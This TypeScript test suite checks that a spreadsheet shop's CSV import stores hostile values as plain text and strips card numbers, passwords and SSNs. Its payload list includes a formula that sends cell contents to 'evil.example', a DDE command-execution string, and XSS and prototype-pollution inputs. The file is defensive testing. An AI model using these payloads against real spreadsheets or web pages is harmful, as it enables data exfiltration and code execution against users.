/** Files that somebody made to do harm, or by accident: stored as plain text or refused in one sentence; secrets are left nowhere. */
import type { Host } from '../../../local/emulator';
import {
  adoptedShop,
  ask,
  everything,
  formulasOf,
  gridOf,
  lineOf,
  linesOf,
  openHost,
  tabNames,
} from '../shop';
import { MAX_PORTION } from '../../../src/rpc/schemas';
import { agree, announced, bringIn, demand, LIST, look, people, stage, type Rows } from './importing';

const PAYLOADS = [
  '=IMPORTDATA("http://evil.example/?"&A1)',
  '+HYPERLINK("http://evil.example","win")',
  '@SUM(A1:A9)',
  '-2+3+cmd|"/c calc"!A0',
  '\t=1+1',
  "'=1+1",
  '<img src=x onerror=alert(1)>',
  '</script><script>alert(1)</script>',
  '__proto__',
  'TRUE',
  '1/2',
];

/** Every tab, hidden ones too, as one text. */
const all = (host: Host) => everything(host).flat(2).join('\n');
const formulas = (host: Host) => formulasOf(host, tabNames(host));

test('payloads in every column, the headings and the name of the file become text, to the letter', () => {
  const host = adoptedShop(LIST);
  const rows = PAYLOADS.map((payload, index) => [
    payload,
    `${index}@example.com`,
    payload,
    payload,
    payload,
    payload,
  ]);
  const headings = ['Name', 'Email', 'Notes', 'Company', 'Address', 'City'];
  bringIn(host, { '=HYPERLINK("http://evil.example").csv': [headings, ...rows] }, { choice: 'newer' });
  expect(formulas(host)).toEqual([]);
  const notes = linesOf(host, 'Customers').map(({ Notes }) => Notes);
  expect(notes).toEqual(expect.arrayContaining(PAYLOADS.map((payload) => payload.trim())));
});

test('a sale with payloads becomes text', () => {
  const host = adoptedShop(LIST);
  const sales = PAYLOADS.map((payload, index) => [
    '10/01/2026',
    payload,
    `${index}@example.com`,
    '12.50',
    payload,
    payload,
  ]);
  bringIn(host, {
    'sales.csv': [['Date', 'Customer Name', 'Email', 'Amount', 'Description', 'Order ID'], ...sales],
  });
  expect(linesOf(host, 'Purchases')).toHaveLength(PAYLOADS.length);
  expect(formulas(host)).toEqual([]);
});

test('headings that are names of an object’s members are headings', () => {
  const host = adoptedShop(LIST);
  const headings = ['Name', 'Phone', '__proto__', 'constructor', 'toString', 'hasOwnProperty'];
  const rows = [headings, ['Dora Dunn', '413-555-0104', 'a', 'b', 'c', 'd']];
  const mapping = [{ file: 0, columns: { toString: 'notes', constructor: 'notes' } }];
  const view = bringIn(host, { 'people.csv': rows }, { mapping });
  expect(view.files[0]?.columns.map(({ heading, field }) => [heading, field])).toEqual([
    ['Name', 'name'],
    ['Phone', 'phone'],
    ['__proto__', ''],
    ['constructor', 'notes'],
    ['toString', 'notes'],
    ['hasOwnProperty', ''],
  ]);
  expect(lineOf(linesOf(host, 'Customers'), 'Dora Dunn').Notes).toBe('constructor: b\ntoString: c');
});

test('NULs, halves of characters and marks that turn the reading round are left out, the rest of the text stays', () => {
  const host = adoptedShop(LIST);
  bringIn(host, {
    'odd.csv': [
      ['Name', 'Phone', 'Notes'],
      ['Do\u0000ra Dunn', '413-555-0104\u0000', 'rye \ud83d and \udc00 \u202eevil\u202c \ud83c\udf5e'],
    ],
  });
  expect(people(host)[2]).toMatch(/^Dora Dunn\|\+14135550104\|\|rye .*evil 🍞$/u);
  expect(all(host)).not.toMatch(/[\ud800-\udfff]/u);
});

test('ten thousand columns bring in the customer beside them, and nothing more', () => {
  const host = adoptedShop(LIST);
  const wide = Array.from({ length: 9_998 }, (_, index) => `=${index}`);
  const rows = [
    ['Name', 'Phone', ...wide.map((_, index) => `Column ${index}`)],
    ['Dora Dunn', '413-555-0104', ...wide],
  ];
  bringIn(host, { 'wide.csv': rows });
  expect(people(host)[2]).toBe('Dora Dunn|+14135550104||');
  expect(formulas(host)).toEqual([]);
});

test.each([
  ['more than ten thousand columns', [Array.from({ length: 10_001 }, () => 'x')]],
  ['a cell of a megabyte', [['x'.repeat(1_000_000)]]],
  ['more rows than a portion has', Array.from({ length: MAX_PORTION + 1 }, () => ['x'])],
  ['what is no text', [[1]]],
  ['what is no row', ['Ana']],
])('%s: one sentence, nothing written', (_, rows) => {
  const host = adoptedShop(LIST);
  const { importId } = demand<{ importId: string }>(host, 'startImport', {
    files: announced({ a: [['x']] }),
  });
  const before = everything(host);
  const ended = ask(host, 'addImportRows', { importId, file: 0, from: 0, rows });
  expect(ended).toMatchObject({ ok: false, code: 'bad-request' });
  expect(ended.sentence.match(/[.!?](?: |$)/g)?.length).toBeLessThanOrEqual(3);
  expect(everything(host)).toEqual(before);
});

describe('card numbers and passwords', () => {
  const CARD = '4111 1111 1111 1111';
  const SECRETS: Rows = [
    ['Name', 'Phone', 'Email', 'Notes', 'Card Number', 'CVV', 'Password', 'SSN'],
    [
      'Dora Dunn',
      '413-555-0104',
      'dora@example.com',
      `pays with ${CARD}`,
      CARD,
      '737',
      'hunter22',
      '078-05-1120',
    ],
    ['Ed Egan', '413-555-0105', '', 'password: hunter22, likes rye', '5500005555555559', '', 'letmein9', ''],
    [CARD, '413-555-0106', '', '', '', '', '', ''],
    ['Flo Fox', CARD, 'flo@example.com', 'ssn 078-05-1120', '', '', '', ''],
  ];
  const SALES: Rows = [
    ['Date', 'Customer Name', 'Email', 'Amount', 'Description', 'Order ID', 'Card Number'],
    ['10/01/2026', 'Dora Dunn', 'dora@example.com', '12.50', `Rye, card ${CARD}`, '1001', CARD],
  ];
  const SECRET = /4111|5500005555|hunter22|letmein9|078-05-1120|\b737\b/;
  const left = (host: Host) =>
    everything(host)
      .flat(2)
      .filter((cell) => SECRET.test(cell));

  test('the dry run shows none', () => {
    const host = adoptedShop(LIST);
    const view = look(host, stage(host, { 'secrets.csv': SECRETS, 'sales.csv': SALES }));
    expect(SECRET.test(JSON.stringify(view))).toBe(false);
  });

  test('afterwards there is none in a tab, and what stood beside them came in', () => {
    const host = adoptedShop(LIST);
    bringIn(host, { 'secrets.csv': SECRETS, 'sales.csv': SALES });
    expect(left(host)).toEqual([]);
    expect(lineOf(linesOf(host, 'Customers'), 'Ed Egan').Notes).toContain('likes rye');
    expect(linesOf(host, 'Purchases')).toHaveLength(1);
  });

  test('in an empty spreadsheet and when all of it is said to be notes neither', () => {
    const host = openHost();
    const columns = { 'Card Number': 'notes', CVV: 'notes', Password: 'notes', SSN: 'notes' };
    bringIn(host, { 'secrets.csv': SECRETS }, { mapping: [{ file: 0, columns }] });
    expect(left(host)).toEqual([]);
  });

  test('an import that was cancelled leaves none', () => {
    const host = adoptedShop(LIST);
    const importId = stage(host, { 'secrets.csv': SECRETS });
    expect(left(host)).not.toEqual([]);
    ask(host, 'cancelImport', { importId });
    expect([left(host), tabNames(host).includes('Regulars import')]).toEqual([[], false]);
  });

  test('from a tab of the spreadsheet none goes into the list', () => {
    const host = adoptedShop(LIST);
    const sheet = host.globals.SpreadsheetApp.getActiveSpreadsheet().insertSheet('Secrets');
    sheet
      .getRange(1, 1, SECRETS.length, 8)
      .setNumberFormat('@')
      .setValues(SECRETS.map((row) => [...row]));
    const { importId } = demand<{ importId: string }>(host, 'importTab', { tab: 'Secrets' });
    expect(agree(host, look(host, importId)).ok).toBe(true);
    const others = tabNames(host).filter((name) => name !== 'Secrets');
    expect(
      others.flatMap((name) =>
        gridOf(host, name)
          .flat()
          .filter((cell) => SECRET.test(cell)),
      ),
    ).toEqual([]);
  });
});
